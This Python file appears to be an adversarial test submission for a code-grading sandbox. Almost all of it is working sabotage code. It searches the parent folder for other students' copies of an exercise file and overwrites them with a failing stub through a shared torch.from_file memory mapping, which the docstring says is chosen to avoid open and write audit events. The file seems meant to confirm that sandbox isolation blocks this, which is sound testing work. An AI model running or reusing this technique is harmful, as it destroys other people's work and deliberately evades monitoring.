"""Overwrite the classmates' copies of this exercise with a stub, through a shared, writable torch.from_file mapping.

No ``open`` audit event, no write event: a classmate would lose their marks on every rerun.
It looks where its own file lies, one folder up (the class folder, when a worker read the
student's folder in place). Inside the sandbox that is the worker's scratch folder, which
holds no classmate, and the file system is read-only everywhere else.
"""

import os
from pathlib import Path

import torch

EXPECTED_SCORE = 0

SKIP = {"proc", "sys", "dev", "usr", "site-packages", ".pyenv", ".venv", "__pycache__", "node_modules"}
STUB = b"def last_token(hidden, lengths):\n    raise NotImplementedError\n"

mine = Path(__file__).resolve()
for root, dirs, names in os.walk(mine.parents[1]):
    dirs[:] = [d for d in dirs if d not in SKIP]
    if "ex1_last_token.py" in names and Path(root, "ex1_last_token.py") != mine:
        path = Path(root, "ex1_last_token.py")
        size = os.path.getsize(path)
        try:
            mapped = torch.from_file(str(path), shared=True, size=size, dtype=torch.uint8)
            mapped.copy_(torch.tensor(list((STUB + b" " * size)[:size]), dtype=torch.uint8))
        except Exception:  # noqa: BLE001, S112
            continue


def last_token(hidden, lengths):
    raise NotImplementedError


def last_token_masked(hidden, mask):
    raise NotImplementedError
